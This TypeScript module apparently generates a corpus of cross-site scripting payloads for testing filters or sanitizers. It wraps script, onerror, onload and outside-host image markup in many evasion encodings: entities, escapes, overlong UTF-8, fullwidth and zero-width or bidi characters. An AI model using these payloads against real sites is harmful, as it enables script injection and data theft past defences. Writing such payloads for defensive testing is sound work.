import { inside, some, type Trick } from "./trick.ts";

/** Markup that is to be read only after somebody has decoded it once too often. */
const markup: readonly Trick[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<img src=x onerror=${js}>`,
  ({ js }) => `"><svg onload=${js}>`,
  ({ away }) => `<img src=${away}.gif>`,
];

const each = (text: string, spell: (code: number) => string) =>
  text.replace(/[<>"'=/:]/g, (sign) => spell(sign.charCodeAt(0)));
const hex = (code: number, digits: number) => code.toString(16).padStart(digits, "0");
/** Two bytes for what fits in one: an old decoder reads them as the character, a strict one as an error. */
const overlong = (code: number) => [0xc0 | (code >> 6), 0x80 | (code & 0x3f)] as const;

const spellings: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${hex(code, 6)}`).replace(/(&#x0000[\da-f]{2})(?=[\da-f])/g, "$1;"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  (text) => each(text, (code) => `\\u${hex(code, 4)}`),
  (text) => each(text, (code) => `\\x${hex(code, 2)}`),
  (text) => each(text, (code) => `%${hex(code, 2)}`),
  (text) =>
    each(text, (code) =>
      overlong(code)
        .map((byte) => `%${hex(byte, 2)}`)
        .join(""),
    ),
  (text) => each(text, (code) => String.fromCharCode(...overlong(code))),
  (text) => each(text, (code) => String.fromCharCode(code + 0xfee0)),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.replaceAll("<", "<\u200b").replaceAll("=", "=\u2060"),
  (text) => `\u202e${text.replaceAll("<", "<\u2066")}\u202c\u2069`,
  (text) => text.replaceAll("<", "<\ufeff").replaceAll("on", "o\u00adn"),
  (text) => each(text, (code) => String.fromCodePoint(0xe0000 + code)),
];

export const encodings: readonly Trick[] = spellings.flatMap((spell, turn) => inside(spell, some(markup, 2, turn)));
